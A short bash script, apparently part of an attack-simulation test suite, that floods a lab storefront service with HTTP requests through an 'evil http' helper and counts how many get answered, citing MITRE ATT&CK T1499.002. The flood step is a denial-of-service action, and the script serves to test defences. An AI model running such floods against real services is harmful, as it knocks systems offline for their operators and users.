#!/usr/bin/env bash
# Floods the storefront with HTTP requests from the attacker's machine: 3 seconds, 20,000 at most. MITRE ATT&CK T1499.002, Service Exhaustion Flood.
. "$(dirname "$0")/lib.sh"

n=$(evil http "http://storefront:8080/static?file=style.css")
[ "${n:-0}" -ge 300 ] || stopped "only ${n:-0} requests were answered"
worked "$n requests were answered in 3 seconds"
